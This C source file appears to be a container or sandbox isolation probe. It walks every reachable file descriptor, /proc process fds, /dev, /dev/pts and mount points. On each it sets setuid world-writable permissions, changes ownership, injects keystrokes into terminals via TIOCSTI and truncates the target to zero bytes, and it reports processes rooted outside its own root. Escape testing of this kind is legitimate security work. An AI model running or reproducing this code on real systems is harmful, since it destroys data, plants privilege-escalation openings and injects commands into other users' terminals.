/* Tries to change, cut, read or type into whatever this process was given or can reach through proc, and says what
 * stands outside of its root. What changed on the machine is for others to see. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <unistd.h>

static struct stat own;

static void change(int fd) {
	char typed = 'x';
	fchmod(fd, 04777);
	fchown(fd, 77, 77);
	ioctl(fd, TIOCSTI, &typed);
	ftruncate(fd, 0);
	fsetxattr(fd, "user.audit", "x", 1, 0);
}

static void change_path(const char *path) {
	static const int how[] = {O_RDWR, O_WRONLY, O_RDONLY, O_WRONLY | O_APPEND, O_PATH};
	chmod(path, 04777);
	chown(path, 77, 77);
	for (unsigned i = 0; i < sizeof how / sizeof *how; i++) {
		int fd = open(path, how[i] | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
		if (fd >= 0) {
			change(fd);
			close(fd);
		}
	}
	truncate(path, 0);
}

static void each(const char *directory, void (*act)(const char *)) {
	char path[512];
	struct dirent *entry;
	DIR *all = opendir(directory);
	while (all && (entry = readdir(all))) {
		if (strcmp(entry->d_name, ".") && strcmp(entry->d_name, "..")) {
			snprintf(path, sizeof path, "%s/%s", directory, entry->d_name);
			act(path);
		}
	}
	if (all)
		closedir(all);
}

static void process(const char *path) {
	char inner[600], link[600];
	struct stat root;
	ssize_t length;
	if (!strspn(path + strlen("/proc/"), "0123456789"))
		return;
	snprintf(inner, sizeof inner, "%s/root", path);
	if (!stat(inner, &root) && (root.st_dev != own.st_dev || root.st_ino != own.st_ino))
		printf("%s has another root\n", path);
	snprintf(inner, sizeof inner, "%s/cwd", path);
	length = readlink(inner, link, sizeof link - 1);
	if (length > 0 && link[0] != '/')
		printf("%s stands outside: %.*s\n", path, (int)length, link);
	snprintf(inner, sizeof inner, "%s/fd", path);
	each(inner, change_path);
}

int main(void) {
	char line[4096], target[4096];
	FILE *mounts = fopen("/proc/self/mountinfo", "re");
	if (stat("/", &own))
		return 1;
	for (int fd = 0; fd < 1024; fd++)
		if (fcntl(fd, F_GETFD) >= 0 && (!mounts || fd != fileno(mounts)))
			change(fd);
	each("/proc", process);
	each("/dev", change_path);
	each("/dev/pts", change_path);
	while (mounts && fgets(line, sizeof line, mounts))
		/* What is mounted at the root, and proc itself, are the container's. */
		if (sscanf(line, "%*s %*s %*s %*s %4095s", target) == 1 && strcmp(target, "/"))
			change_path(target);
	return 0;
}
